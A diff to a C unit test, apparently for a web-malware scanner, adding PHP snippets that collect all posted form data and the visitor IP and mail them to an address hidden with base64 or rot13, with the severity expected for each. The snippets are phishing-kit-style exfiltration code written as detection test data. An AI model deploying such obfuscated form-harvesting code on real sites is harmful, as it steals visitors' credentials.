@@ -78,6 +78,23 @@ static void test_mail_channel(void **state)
 	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
 	       "mail('x@example.com', 'form', $m . $_SERVER['REMOTE_ADDR']);",
 	       HS_SEV_MEDIUM);
+	/* the same dump to a mailbox the file hides: a kit, high */
+	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
+	       "$to = base64_decode('cmVzdWx0c0BleGFtcGxlLm5ldA==');\n"
+	       "mail($to, 'form', $m . $_SERVER['REMOTE_ADDR']);",
+	       HS_SEV_HIGH);
+	expect("<?php $to = str_rot13('erfhygf@rknzcyr.arg');\n"
+	       "$b = print_r($_POST, true) . 'IP: ' . getenv('REMOTE_ADDR');\n"
+	       "mail($to, 'r', $b);",
+	       HS_SEV_HIGH);
+	/* an address built from pieces (against harvesters) is not hidden */
+	expect("<?php $m = ''; foreach ($_POST as $k => $v) { $m .= \"$k: $v\\n\"; }\n"
+	       "mail('info' . '@' . 'example.com', 'form', $m . $_SERVER['REMOTE_ADDR']);",
+	       HS_SEV_MEDIUM);
+	/* hidden mailbox but no visitor address: still medium */
+	expect("<?php $to = base64_decode('cmVzdWx0c0BleGFtcGxlLm5ldA==');\n"
+	       "mail($to, 'form', print_r($_POST, true));",
+	       HS_SEV_MEDIUM);
 }
 
 static void test_file_and_messenger_channels(void **state)
